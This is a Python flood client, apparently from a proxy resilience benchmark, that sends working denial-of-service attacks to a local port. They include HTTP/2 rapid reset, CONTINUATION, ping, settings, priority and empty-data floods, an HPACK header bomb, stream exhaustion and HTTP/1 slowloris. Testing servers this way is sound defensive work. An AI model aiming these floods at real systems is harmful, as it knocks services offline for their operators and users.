#!/usr/bin/python3
"""One hostile client: sends one kind of flood as fast as its share of a core allows, for a time.

    flooder.py KIND PORT SECONDS        prints one line of JSON: connections, bytes sent, how connections ended

A connection that the proxy closes is followed by the next at once. Everything that is sent was made before, so that a
slow language is fast enough. It runs at idle priority and for a part of the time only: the clients whose waiting is
measured share its core, and should wait for the proxy and not for it.
"""

import json
import os
import select
import socket
import struct
import sys
import time

import hpack

HOST = "h0.bench.test"
FILES = "files.bench.test"  # has a server of its own, which nobody else waits for
NOBODY = "nobody.bench.test"  # has no route: the proxy answers by itself
SHARE = 0.3  # of a core
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
ENDS_STREAM, ENDS_HEAD = 1, 4
PIECE = 16 * 1024  # about what is sent at once


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def head(path="/small", method="GET", host=HOST, extra=()):
    """A head that leaves the table of fields alone, so that it may be repeated."""
    fields = [(":method", method), (":scheme", "http"), (":path", path), (":authority", host), *extra]
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields], huffman=False)


def settings(**values):
    numbers = {"window": 4}
    pairs = b"".join(struct.pack(">HI", numbers[name], value) for name, value in values.items())
    return frame(SETTINGS, 0, 0, pairs)


def repeated(one):
    """Says the same without end."""
    piece = one * max(1, PIECE // len(one))
    while True:
        yield piece


def opened(*first):
    return b"".join((PREFACE, settings(), *first))


def rapid_reset():
    """Asks, and takes it back before there can be an answer (CVE-2023-44487)."""
    block, stream = head(), 1
    yield opened()
    while True:
        pieces = []
        for _ in range(200):
            pieces += [frame(HEADERS, ENDS_STREAM | ENDS_HEAD, stream, block), frame(RST_STREAM, 0, stream, bytes(4))]
            stream += 2
        yield b"".join(pieces)


def continuation():
    """A head that never ends (CVE-2024-27316 and its kin)."""
    yield opened(frame(HEADERS, 0, 1, head()))
    yield from repeated(frame(CONTINUATION, 0, 1, hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("x", "y" * 900)])))


def empty_continuation():
    """The same without content."""
    yield opened(frame(HEADERS, 0, 1, head()))
    yield from repeated(frame(CONTINUATION, 0, 1))


def settings_flood():
    """Each must be acknowledged (CVE-2019-9515)."""
    yield opened()
    yield from repeated(settings(window=65535))


def ping_flood():
    """Each must be answered (CVE-2019-9512)."""
    yield opened()
    yield from repeated(frame(PING, 0, 0, b"01234567"))


def empty_data():
    """A body of nothing that does not end (CVE-2019-9518)."""
    yield opened(frame(HEADERS, ENDS_HEAD, 1, head("/sink", "POST")))
    yield from repeated(frame(DATA, 0, 1))


def priorities():
    """Rearranges streams that nobody arranges (CVE-2019-9513)."""
    yield opened()
    yield from repeated(frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 7)))


def window_updates():
    yield opened()
    yield from repeated(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


def header_bomb():
    """A field of 4,000 bytes put into the table once, and then named by one byte 16,000 times a head."""
    encoder = hpack.Encoder()
    first = encoder.encode([(":method", "GET"), (":scheme", "http"), (":path", "/small"), (":authority", HOST)])
    first += encoder.encode([("bomb", "b" * 3900)])
    yield opened(frame(HEADERS, ENDS_STREAM | ENDS_HEAD, 1, first))
    block, stream = head() + b"\xbe" * 16000, 3
    while True:
        yield b"".join(frame(HEADERS, ENDS_STREAM | ENDS_HEAD, stream + 2 * i, block) for i in range(4))
        stream += 8


def many_streams():
    """Requests for a host that is not there, far more at once than streams are allowed."""
    block, stream = head(host=NOBODY), 1
    yield opened()
    while True:
        yield b"".join(frame(HEADERS, ENDS_STREAM | ENDS_HEAD, stream + 2 * i, block) for i in range(100))
        stream += 200


def downloads(window):
    """A hundred answers of a megabyte, for which there is no window, or which are not read."""
    block = head("/1m", host=FILES)
    yield PREFACE + settings(window=window) + (
        frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65535)) if window else b"") + b"".join(
        frame(HEADERS, ENDS_STREAM | ENDS_HEAD, 2 * i + 1, block) for i in range(100))


def get(path, host=HOST):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()


def slow_loris():
    """A head that comes by the byte."""
    yield b"GET /small HTTP/1.1\r\nHost: " + HOST.encode() + b"\r\nX-Slow: "
    while True:
        yield b"a"


class Kind:
    """How one flood is made: `says` anew for each connection, `connections` side by side, `reads` what comes or not;
    `pause` seconds between two pieces of one connection."""

    def __init__(self, says, connections=4, reads=True, pause=0.0):
        self.says, self.connections, self.reads, self.pause = says, connections, reads, pause


KINDS = {
    "rapid-reset": Kind(rapid_reset),
    "continuation": Kind(continuation),
    "empty-continuation": Kind(empty_continuation),
    "settings": Kind(settings_flood),
    "ping": Kind(ping_flood),
    "ping-unread": Kind(ping_flood, reads=False),
    "empty-data": Kind(empty_data),
    "priority": Kind(priorities),
    "window-update": Kind(window_updates),
    "header-bomb": Kind(header_bomb),
    "streams": Kind(many_streams),
    "window-stall": Kind(lambda: downloads(0), connections=20, pause=1.0),
    "slow-reader": Kind(lambda: downloads(2**31 - 1), connections=20, reads=False, pause=1.0),
    "h1-slow-loris": Kind(slow_loris, connections=1000, pause=0.5),
    "h1-slow-reader": Kind(lambda: iter([get("/1m", FILES) * 20]), connections=100, reads=False, pause=1.0),
    "h1-pipelining": Kind(lambda: repeated(get("/small", FILES))),
    "h1-pipelining-unread": Kind(lambda: repeated(get("/", NOBODY)), reads=False),
}


class Connection:
    """One connection of the flood; `turn` sends and reads what goes without waiting."""

    def __init__(self, kind, port):
        self.socket = socket.socket()
        if not kind.reads:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.socket.connect(("127.0.0.1", port))
        self.socket.setblocking(False)
        self.kind, self.pieces = kind, kind.says()
        self.rest, self.due, self.sent, self.last = b"", 0.0, 0, b""

    @property
    def has_more(self):
        return self.pieces is not None or bool(self.rest)

    def turn(self, now, readable):
        """False when the proxy has closed it."""
        try:
            if readable and self.kind.reads and not self._read():
                return False
            return self._send(now)
        except BlockingIOError:
            return True
        except OSError:
            self._read_last()
            return False

    def _read(self):
        try:
            bytes_read = self.socket.recv(1 << 20)
        except BlockingIOError:
            return True
        self.last = bytes_read[-64:] or self.last
        return bool(bytes_read)

    def _read_last(self):
        try:
            self._read()
        except OSError:
            pass

    def _send(self, now):
        if not self.rest and now >= self.due and self.pieces is not None:
            self.rest = next(self.pieces, b"")
            if not self.rest:
                self.pieces = None
            self.due = now + self.kind.pause
        if self.rest:
            count = self.socket.send(self.rest)
            self.sent += count
            self.rest = self.rest[count:]
        return True


def flood(kind, port, seconds):
    """Keeps the connections open and busy; what happened."""
    began = time.monotonic() - time.process_time() / SHARE
    ends = time.monotonic() + seconds
    result = {"connections": 0, "closed": 0, "refused": 0, "sent": 0}
    alive = {}
    poll = select.epoll()

    def open_one():
        try:
            connection = Connection(kind, port)
        except OSError:
            result["refused"] += 1
            return
        result["connections"] += 1
        alive[connection.socket.fileno()] = connection
        # A connection that pauses is not asked whether it may write.
        poll.register(connection.socket.fileno(), select.EPOLLIN | (0 if kind.pause else select.EPOLLOUT))

    def close(descriptor):
        connection = alive.pop(descriptor)
        poll.unregister(descriptor)
        result["sent"] += connection.sent
        connection.socket.close()

    while (now := time.monotonic()) < ends:
        while len(alive) < kind.connections and time.monotonic() < ends:
            open_one()
        ready = dict(poll.poll(0.05))
        due = alive if kind.pause else ready
        for descriptor in list(set(due) | set(ready)):
            events = ready.get(descriptor, 0)
            if not alive[descriptor].turn(now, events & select.EPOLLIN) or events & (select.EPOLLHUP | select.EPOLLERR):
                close(descriptor)
                result["closed"] += 1
        # What waits to be read and is not would wake us without end.
        time.sleep(max(0.01 if kind.pause or not kind.reads else 0, time.process_time() / SHARE - (now - began)))
    for descriptor in list(alive):
        close(descriptor)
    return result


def main():
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    print(json.dumps(flood(KINDS[name], port, seconds)), flush=True)


if __name__ == "__main__":
    main()
